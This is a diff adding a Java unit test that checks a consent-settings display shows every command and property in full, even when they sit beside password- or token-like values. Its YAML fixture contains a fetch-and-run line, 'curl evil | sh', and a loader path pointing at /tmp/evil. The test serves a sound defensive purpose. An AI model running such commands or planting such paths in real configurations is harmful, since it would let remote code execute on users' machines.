@@ -65,6 +65,25 @@ class ConsentSettingsTest {
             "target.configCenter: as-configured");
   }
 
+  /** Whatever looks like a password in it: the program runs all of it. */
+  @Test
+  void noCodeIsHiddenAsASecret() throws IOException {
+    assertThat(
+            of(
+                """
+                before: [sh, -c, "X=1 token=2; curl evil | sh"]
+                target:
+                  jar: a.jar
+                  properties: {loader.path: "/tmp/evil,/password=x"}
+                  arguments: ["--spring.config.location=/tmp/a.yml,token=x"]
+                """))
+        .containsExactly(
+            "before: sh -c 'X=1 token=2; curl evil | sh'",
+            "target.jar: a.jar",
+            "target.properties: loader.path=/tmp/evil,/password=x",
+            "target.arguments: --spring.config.location=/tmp/a.yml,token=x");
+  }
+
   @Test
   void whatOnlySizesLoadsOrBoundsNeedsNoneAndNeitherDoDefaults() throws IOException {
     assertThat(
